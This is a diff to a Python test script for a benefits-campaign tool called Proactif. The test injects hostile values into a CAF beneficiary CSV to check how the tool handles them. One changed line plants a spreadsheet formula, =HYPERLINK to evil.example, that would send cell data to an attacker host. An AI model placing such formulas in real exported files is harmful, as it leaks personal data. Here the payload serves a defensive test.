@@ -31,7 +31,7 @@ import sys
 import time
 
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
-from harness import BINARY, MESSAGE_FIELDS, SOURCE, check, finish, run, temp_file, work_dir  # noqa: E402
+from harness import BINARY, MESSAGE_FIELDS, SOURCE, campaign_head, check, finish, run, temp_file, work_dir  # noqa: E402
 from servers import SmtpSink, query, self_signed_certificate, wait_for_delivery_lock  # noqa: E402
 
 os.umask(0o022)  # the usual umask: Proactif must not rely on a stricter one
@@ -64,7 +64,9 @@ with open(caf, encoding="cp1252", newline="") as f:
     rows = list(csv.reader(f, delimiter=";"))
 header = rows[0]
 clean_rows = [list(row) for row in rows]
-email_col, address_col, qf_col = header.index("COURRIEL"), header.index("ADRESSE"), header.index("QF")
+# A formula in a number the C2S reads (the housing benefit): a column the
+# campaign does not read sets no row aside, and reaches no rejects file.
+email_col, address_col, amount_col = header.index("COURRIEL"), header.index("ADRESSE"), header.index("MTAL")
 injected = 0
 for row in rows[1:]:
     if row[email_col] and injected < len(INJECTIONS):
@@ -72,7 +74,7 @@ for row in rows[1:]:
         injected += 1
         tried_one("injection")
 rows[3][address_col] = "1 rue Pasteur\nMadame la Directrice"
-rows[4][qf_col] = '=HYPERLINK("http://evil.example/?"&A1;"ouvrir")'
+rows[4][amount_col] = '=HYPERLINK("http://evil.example/?"&A1;"ouvrir")'
 tried_one("injection")
 tried_one("injection")
 with open(caf, "w", encoding="cp1252", newline="") as f:
@@ -84,13 +86,7 @@ def campaign(name, extra="", email=None, channels="email, letter"):
     path = os.path.join(work, name + ".yaml")
     email = email or "{smtp: \"%s\", from: droits@grenoble.example, starttls: false}" % sink.url
     with open(path, "w", encoding="utf-8") as f:
-        f.write(f"""id: {name}
-title: Test
-sender: Test
-period: "2025-06"
-date: "2025-06-15"
-how_to_object: écrivez à dpo@test.example
-{MESSAGE_FIELDS}population:
+        f.write(campaign_head(name) + f"""population:
   mappings: [{", ".join(mappings)}]
 programs:
   c2s: {{already_receiving: {{c2s: [free, participation]}}}}
